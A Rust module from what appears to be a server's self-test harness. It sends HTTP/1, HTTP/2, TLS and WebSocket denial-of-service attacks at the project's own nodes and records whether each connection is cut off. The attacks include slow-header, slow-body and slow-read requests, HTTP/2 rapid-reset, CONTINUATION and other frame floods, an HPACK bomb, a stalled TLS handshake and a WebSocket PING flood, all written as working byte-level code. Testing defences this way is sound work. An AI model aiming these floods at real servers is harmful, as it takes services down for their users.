//! Attacks over TCP: exact bytes of HTTP/1, HTTP/2, TLS and WebSocket that no honest visitor sends, each
//! until the other side ends the connection.
//!
//! Nothing is read while an attack runs, but at its end, to see whether that came. Called by
//! [`super`]; read next: [`ATTACKS`].

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use anyhow::{Context as _, Result};
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, StreamOwned};

use crate::clock;

/// How long an attacker goes on before it believes that nobody will end it: longer than any limit here.
pub(super) const PATIENCE: Duration = Duration::from_secs(25);

/// Between two drops of what is sent slowly.
pub(super) const DROP: Duration = Duration::from_millis(50);

/// Pieces of a flood: several times what a limit lets pass.
const PIECES: u32 = 6_000;

pub(super) const DATA: u8 = 0;
pub(super) const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
pub(super) const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
pub(super) const CONTINUATION: u8 = 9;
pub(super) const END_HEADERS: u8 = 4;
pub(super) const END_STREAM: u8 = 1;

/// Whom attacks go to.
#[derive(Clone)]
pub(in crate::drill) struct Victim {
    /// Where HTTP/1 is spoken in the clear.
    pub(in crate::drill) http1: SocketAddr,
    /// Where HTTP/2 is: in the clear, or over TLS where there are authorities.
    pub(in crate::drill) http2: SocketAddr,
    pub(in crate::drill) tls: Option<Arc<ClientConfig>>,
}

/// How an attacker fared.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(in crate::drill) enum Fared {
    /// The other side ended it.
    Ended,
    /// It could go on for as long as it wanted.
    WentOn,
}

/// One attack.
pub(in crate::drill) struct Attack {
    pub(in crate::drill) name: &'static str,
    /// The word that it is counted under.
    pub(in crate::drill) word: &'static str,
    pub(in crate::drill) run: fn(&Victim) -> Result<Fared>,
}

macro_rules! attacks {
    ($($name:literal, $word:literal, $run:expr;)*) => {
        &[$(Attack { name: $name, word: $word, run: $run },)*]
    };
}

/// Attacks on a node and its peers alike.
pub(in crate::drill) const ATTACKS: &[Attack] = attacks! {
    "slow head", "slow_head", slow_head;
    "slow body", "slow_body", slow_body;
    "slow read", "slow_read", slow_read;
    "rapid reset", "resets", |victim| flood(victim, &[], |n| {
        [request(2 * n + 1), frame(RST_STREAM, 0, 2 * n + 1, &[0, 0, 0, 8])].concat()
    });
    "provoked resets", "provoked_resets", |victim| flood(victim, &[], |n| {
        [request(2 * n + 1), frame(WINDOW_UPDATE, 0, 2 * n + 1, &[0x7f, 255, 255, 255])].concat()
    });
    "CONTINUATION", "continuation_flood", |victim| {
        flood(victim, &frame(HEADERS, 0, 1, &block()), |_| frame(CONTINUATION, 0, 1, &[]))
    };
    "SETTINGS", "settings_flood", |victim| {
        flood(victim, &[], |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]))
    };
    "PING", "ping_flood", |victim| flood(victim, &[], |_| frame(PING, 0, 0, b"12345678"));
    "PRIORITY", "priority_flood", |victim| flood(victim, &[], |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]));
    "WINDOW_UPDATE", "window_flood", |victim| {
        flood(victim, &[], |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
    };
    "empty DATA", "empty_data_flood", |victim| {
        flood(victim, &frame(HEADERS, END_HEADERS, 1, &block()), |_| frame(DATA, 0, 1, &[]))
    };
    "unknown frames", "frame_flood", |victim| flood(victim, &[], |_| frame(0x42, 0, 0, b"x"));
    "HPACK bomb", "head_flood", |victim| flood(victim, &[], bomb);
};

/// Attacks on a node alone, beside those in [`super::slow`]: a peer is not set up for them, or has no counter
/// to tell.
pub(in crate::drill) const OWN_ATTACKS: &[Attack] = attacks! {
    "slow handshake", "slow_handshake", slow_handshake;
    "WebSocket PING", "websocket_flood", websocket_pings;
};

pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = length.to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The fields of a GET of `a.example` by indices of the static table (RFC 7541, appendix A) and one literal.
pub(super) fn block() -> Vec<u8> {
    let mut block = vec![0x82, 0x87, 0x84, 0x01, 9];
    block.extend(b"a.example");
    block
}

fn request(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &block())
}

/// An entry of 4,000 bytes for the dynamic table, then thousands of references to it.
fn bomb(number: u32) -> Vec<u8> {
    let mut fields = block();
    if number == 0 {
        fields.extend(b"\x40\x03x-a\x7f\xa1\x1e");
        fields.extend([b'x'; 4_000]);
    }
    fields.extend([0xbe; 8_000]);
    frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &fields)
}

pub(super) trait Wire: Read + Write {}
impl<T: Read + Write> Wire for T {}

fn connect(address: SocketAddr) -> Result<TcpStream> {
    let tcp = TcpStream::connect_timeout(&address, PATIENCE).context("no connection")?;
    tcp.set_nodelay(true)?;
    tcp.set_read_timeout(Some(PATIENCE))?;
    tcp.set_write_timeout(Some(PATIENCE))?;
    Ok(tcp)
}

/// A connection that speaks HTTP/2.
fn http2(victim: &Victim) -> Result<Box<dyn Wire>> {
    secured(victim, connect(victim.http2)?)
}

/// One that looks up from reading after each drop's time. Its first words are there, handshake included.
pub(super) fn http2_by_drops(victim: &Victim, first: &[u8]) -> Result<Box<dyn Wire>> {
    let tcp = connect(victim.http2)?;
    let same = tcp.try_clone()?;
    let mut wire = secured(victim, tcp)?;
    wire.write_all(&[b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, &[])[..], first].concat())?;
    wire.flush()?;
    same.set_read_timeout(Some(DROP))?;
    Ok(wire)
}

fn secured(victim: &Victim, tcp: TcpStream) -> Result<Box<dyn Wire>> {
    let Some(config) = &victim.tls else { return Ok(Box::new(tcp)) };
    let mut config = ClientConfig::clone(config);
    config.alpn_protocols = vec![b"h2".to_vec()];
    let name = ServerName::try_from("a.example").context("no name for TLS")?;
    Ok(Box::new(StreamOwned::new(ClientConnection::new(Arc::new(config), name)?, tcp)))
}

/// Whether an error says that the other side has ended the connection.
pub(super) fn is_end(error: &io::Error) -> bool {
    !matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut | ErrorKind::Interrupted)
}

/// Reads to the end, if it comes; at most for as long as an attacker is patient.
fn read_out(wire: &mut dyn Read) -> Fared {
    let until = clock::now() + PATIENCE;
    let mut room = vec![0; 64 * 1024];
    while clock::now() < until {
        match wire.read(&mut room) {
            Ok(0) => return Fared::Ended,
            Ok(_) => {}
            Err(error) if is_end(&error) => return Fared::Ended,
            Err(_) => return Fared::WentOn,
        }
    }
    Fared::WentOn
}

/// Sends piece after piece.
fn flood(victim: &Victim, begin: &[u8], piece: impl Fn(u32) -> Vec<u8>) -> Result<Fared> {
    let mut wire = http2(victim)?;
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes.extend(begin);
    for number in 0..PIECES {
        bytes.extend(piece(number));
        if bytes.len() >= 16 * 1024 || number + 1 == PIECES {
            match wire.write_all(&bytes).and_then(|()| wire.flush()) {
                Ok(()) => bytes.clear(),
                Err(error) if is_end(&error) => return Ok(Fared::Ended),
                Err(_) => return Ok(Fared::WentOn),
            }
        }
    }
    Ok(read_out(&mut *wire))
}

/// Sends one byte now and then, behind what was begun, until the other side has ended the connection.
fn drip(tcp: &mut TcpStream) -> Result<Fared> {
    let until = clock::now() + PATIENCE;
    let mut room = vec![0; 64 * 1024];
    tcp.set_read_timeout(Some(DROP))?;
    while clock::now() < until {
        match tcp.read(&mut room) {
            Ok(0) => return Ok(Fared::Ended),
            Err(error) if is_end(&error) => return Ok(Fared::Ended),
            _ => {}
        }
        if tcp.write_all(b"x").is_err_and(|error| is_end(&error)) {
            return Ok(Fared::Ended);
        }
    }
    Ok(Fared::WentOn)
}

/// One request in order, so that its zone's times hold for the connection; then the beginning of another
/// head.
fn slow_head(victim: &Victim) -> Result<Fared> {
    let mut tcp = connect(victim.http1)?;
    tcp.write_all(b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n")?;
    let mut answer = [0; 4096];
    let _answered = tcp.read(&mut answer)?;
    tcp.write_all(b"GET / HTTP/1.1\r\nHost: a.example\r\nX-Slow: ")?;
    drip(&mut tcp)
}

fn slow_body(victim: &Victim) -> Result<Fared> {
    let mut tcp = connect(victim.http1)?;
    tcp.write_all(b"POST /upload HTTP/1.1\r\nHost: a.example\r\nContent-Length: 1000000\r\n\r\n")?;
    drip(&mut tcp)
}

/// Asks for more than every buffer holds and reads nothing of it, then looks whether it would still come.
fn slow_read(victim: &Victim) -> Result<Fared> {
    let mut tcp = connect(victim.http1)?;
    tcp.write_all(b"GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n")?;
    let until = clock::now() + PATIENCE;
    while clock::now() < until {
        thread::sleep(DROP);
        // What comes after the end of an answer that was cut is refused with a reset.
        if tcp.write_all(b"\r\n").is_err_and(|error| is_end(&error)) || tcp.take_error()?.is_some() {
            return Ok(Fared::Ended);
        }
    }
    Ok(Fared::WentOn)
}

/// The first bytes of a client hello's record, and no more.
fn slow_handshake(victim: &Victim) -> Result<Fared> {
    let mut tcp = connect(victim.http2)?;
    tcp.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])?;
    Ok(read_out(&mut tcp))
}

/// Masked PINGs without payload (RFC 6455 §5.5.2).
fn websocket_pings(victim: &Victim) -> Result<Fared> {
    let mut tcp = connect(victim.http1)?;
    tcp.write_all(
        b"GET /socket HTTP/1.1\r\nHost: a.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\
          Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
    )?;
    let mut answer = [0; 4096];
    let read = tcp.read(&mut answer)?;
    anyhow::ensure!(answer.get(..12) == Some(b"HTTP/1.1 101"), "no WebSocket: {read} bytes");
    let pings = [0x89, 0x80, 1, 2, 3, 4].repeat(PIECES as usize);
    match tcp.write_all(&pings) {
        Err(error) if is_end(&error) => Ok(Fared::Ended),
        _ => Ok(read_out(&mut tcp)),
    }
}
